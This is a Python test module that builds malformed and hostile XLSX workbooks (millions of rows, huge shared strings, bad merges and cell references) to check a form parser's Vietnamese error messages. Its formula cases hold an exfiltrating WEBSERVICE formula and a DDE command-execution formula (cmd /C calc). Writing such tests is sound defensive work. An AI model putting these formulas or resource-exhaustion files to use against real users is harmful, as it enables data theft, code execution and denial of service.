"""Workbooks that are sound archives and hostile inside."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

from tests.tasks.forms.hostile.case import EXCEL, LINES, Hostile, before, excel, put
from tests.tasks.forms.letters_made import PEOPLE

RELATIONS = "xl/_rels/workbook.xml.rels"
RELATION_TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
NAMESPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_END = "</sheetData>"
_LAST = 43  # the last row of the letter's sheet
_PERSON = 18  # the row of the first person
_PLACE = f"Mục 2, dòng {_PERSON}, cột "


def sheets() -> Iterator[Hostile]:
    """All of them."""
    yield from _rows()
    yield from _texts()
    yield from _formulas()
    yield from _values()
    yield from _merges()
    yield from _places()


def case(
    name: str,
    change: Callable[[str], str],
    told: str = "",
    remarked: str = "",
    others: dict[str, bytes] | None = None,
) -> Hostile:
    """The XLSX letter with its sheet changed; read whole where nothing is ``told``."""
    lines = 0 if told else LINES
    return Hostile(name, "a.xlsx", lambda: excel(change, **others or {}), told, lines, remarked)


def name_cell(content: str, attributes: str = "") -> Callable[[str], str]:
    """Write the cell of the first person's name anew."""
    return _cell("B", content, attributes)


def _cell(column: str, content: str, attributes: str = "") -> Callable[[str], str]:
    def change(xml: str) -> str:
        start = xml.index(f'<c r="{column}{_PERSON}"')
        end = xml.index("</c>", start) + len("</c>")
        cell = f'<c r="{column}{_PERSON}" {attributes}>{content}</c>'
        return xml[:start] + cell + xml[end:]

    return change


def _rows() -> Iterator[Hostile]:
    empty = "".join(f'<row r="{n}"/>' for n in range(_LAST + 1, 1_000_000))
    yield case("a million empty rows", before(_END, empty))
    formatted = "".join(
        f'<row r="{n}"><c r="A{n}" s="9"/><c r="B{n}" s="9"/></row>'
        for n in range(_LAST + 1, 300_000)
    )
    yield case("300,000 rows of empty cells with borders", before(_END, formatted))
    yield case(
        "rows of empty cells that burst to 60 MB",
        before(_END, formatted * 4),
        "quá mức an toàn 50 MB",
    )
    yield case("a dimension of all cells", put('ref="A1:H43"', 'ref="A1:XFD1048576"'))
    far = "trang tính có dữ liệu ngoài 5000 dòng, 100 cột đầu"
    for reference, row in (("XFD1048576", 1048576), ("A1048576", 1048576), ("XFD44", 44)):
        filled = f'<row r="{row}"><c r="{reference}"><v>1</v></c></row>'
        told = f"Trang tính «Đề nghị», ô {reference}: {far}"
        yield case(f"a cell at {reference}", before(_END, filled), told)
    yield case(
        "5,000 rows of 100 cells",
        before(
            _END,
            "".join(
                f"<row r='{n}'>{'<c><v>1</v></c>' * 100}</row>" for n in range(_LAST + 1, 5_000)
            ),
        ),
        "văn bản có hơn 150.000 ô",
    )
    column = "".join(f'<row r="{n}"><c r="CV{n}"><v>1</v></c></row>' for n in range(44, 5_000))
    yield case("5,000 cells in column CV", before(_END, column), "văn bản có hơn 150.000 ô")


def _texts() -> Iterator[Hostile]:
    def shared(texts: str, cells: str = "") -> bytes:
        kind = f"{RELATION_TYPE}sharedStrings"
        relation = f'<Relationship Id="rX" Type="{kind}" Target="sharedStrings.xml"/>'
        end = "</Relationships>"
        return excel(
            before(_END, cells) if cells else lambda xml: xml,
            **{
                RELATIONS: before(end, relation)(EXCEL[RELATIONS].decode()).encode(),
                "xl/sharedStrings.xml": f'<sst xmlns="{NAMESPACE}">{texts}</sst>'.encode(),
            },
        )

    cells = '<c t="s"><v>0</v></c>' * 40
    many = "".join(f'<row r="{n}">{cells}</row>' for n in range(_LAST + 1, 2_500))
    long = f"<si><t>{'x' * 900}</t></si>"
    cases = {
        "one long text in 100,000 cells": (long, many, "văn bản có hơn 6.000.000 chữ"),
        "a text of 5 MB in 100,000 cells": (
            f"<si><t>{'a ' * 2_500_000}</t></si>",
            many,
            "nội dung dài quá 1000 ký tự",
        ),
        "a million texts": ("<si/>" * 1_000_000, "", "văn bản có hơn 150.000 ô"),
        "a text in 400,000 runs": (f"<si>{'<r><t>abc</t></r>' * 400_000}</si>", "", ""),
    }
    for name, (texts, cells, told) in cases.items():
        build = lambda t=texts, c=cells: shared(t, c)  # noqa: E731  # bound here
        yield Hostile(name, "a.xlsx", build, told, 0 if told else LINES)
    yield Hostile(
        "a text that is not there",
        "a.xlsx",
        lambda: excel(name_cell("<v>7</v>", 't="s"')),
        _PLACE + "Họ và tên: ô trỏ đến nội dung không có trong tệp",
    )


def _formulas() -> Iterator[Hostile]:
    read = "đọc giá trị đã lưu của công thức (không tính lại) ở 1 ô"
    outward = '<f>WEBSERVICE("http://127.0.0.1:9/"&amp;F18)</f>'
    yield case(
        "a formula that sends a number away",
        name_cell(f"{outward}<v>{PEOPLE[0]}</v>", 't="str"'),
        remarked=read,
    )
    yield case(
        "a formula that starts a program",
        name_cell(f"<f>cmd|' /C calc'!A0</f><v>{PEOPLE[0]}</v>", 't="str"'),
        remarked=read,
    )
    yield case(
        "a formula that was never computed",
        name_cell("<f>A1</f>"),
        _PLACE + "Họ và tên: ô chứa công thức chưa có giá trị",
    )
    yield case(
        "a formula that failed",
        name_cell("<f>1/0</f><v>#DIV/0!</v>", 't="e"'),
        _PLACE + "Họ và tên: ô báo lỗi «#DIV/0!»",
    )


def _values() -> Iterator[Hostile]:
    number = _PLACE + "Họ và tên: «{}» không phải một số"
    for value in ("NaN", "inf", "-Infinity", "1e999", "1_0", "٣", "0x10"):
        yield case(f"a number {value}", name_cell(f"<v>{value}</v>"), number.format(value))
    yield case("a number of a name", name_cell("<v>1e308</v>"), _PLACE + "Họ và tên: ")
    yield case(
        "a kind of cell that is none",
        name_cell("<v>1</v>", 't="z"'),
        _PLACE + "Họ và tên: kiểu của ô không khớp nội dung",
    )
    yield case(
        "a text that says it is a number",
        put('t="inlineStr"><is><t>Nguy', 't="n"><is><t>Nguy'),
        _PLACE + "Họ và tên: kiểu của ô không khớp nội dung",
    )
    yield case(
        "two contents in a cell",
        name_cell("<v>1</v><v>2</v>"),
        _PLACE + "Họ và tên: ô có hai nội dung",
    )
    written = f"<is><t>_x001B_[31m{PEOPLE[0]}_x0000_</t></is>"
    yield case(
        "control characters, escaped",
        name_cell(written, 't="inlineStr"'),
        _PLACE + "Họ và tên: ",
    )
    yield case(
        "half a character, escaped",
        name_cell(f"<is><t>{PEOPLE[0]}_xD83D_</t></is>", 't="inlineStr"'),
        _PLACE + "Họ và tên: ",
    )
    yield case(
        "a style that is not there",
        lambda xml: re.sub(f'(<c r="B{_PERSON}") s="[0-9]+"', r'\1 s="99999999999"', xml),
    )


def _merges() -> Iterator[Hostile]:
    def merged(*areas: str) -> Callable[[str], str]:
        return before("</mergeCells>", "".join(f'<mergeCell ref="{area}"/>' for area in areas))

    sheet = "Trang tính «Đề nghị»: "
    yield case("all cells merged", merged("A1:XFD1048576"), sheet + "các ô gộp chồng lên nhau")
    yield case("one merge twice", merged("A18:A19", "A18:A19"), "các ô gộp chồng lên nhau")
    yield case(
        "100,000 merges",
        merged(*(f"A{n}:B{n}" for n in range(100, 100_100))),
        "vùng ô gộp «A20085:B20085» không hợp lệ",
    )
    yield case("merges far below", merged("A100:XFD1048576", "A200:XFD1048576"))
    for area in ("B18:A17", "A0:B1", "ZZZZ1:A1", "1:2", ""):
        yield case(f"a merge over {area}", merged(area), f"vùng ô gộp «{area}» không hợp lệ")
    yield case("a merge over names", merged("B18:B19"), "có nội dung bị ô gộp che khuất")


def _places() -> Iterator[Hostile]:
    sheet = "Trang tính «Đề nghị», "
    row, cell = f'<row r="{_PERSON}"', f'<c r="B{_PERSON}"'
    for wrong in ("-1", "NaN", "0", "1e3", "17", "99999999999"):
        told = f"số dòng «{wrong}» sai hoặc bị lặp lại"
        yield case(f"row {wrong}", put(row, f'<row r="{wrong}"'), told)
    for wrong in ("B17", "A18", "C18", "B-1", "18B", "AAAA18", ""):
        told = f"{sheet}ô "
        yield case(f"cell {wrong}", put(cell, f'<c r="{wrong}"'), told)
    yield case(
        "a cell outside of a row", before(_END, "<c><v>1</v></c>"), "cấu trúc trang tính hỏng"
    )
    yield case("a row in a row", before(_END, "<row><row/></row>"), "cấu trúc trang tính hỏng")
    yield case(
        "hidden rows",
        put(row, row + ' hidden="1"'),
        remarked="có 1 dòng bị ẩn, vẫn được đọc",
    )
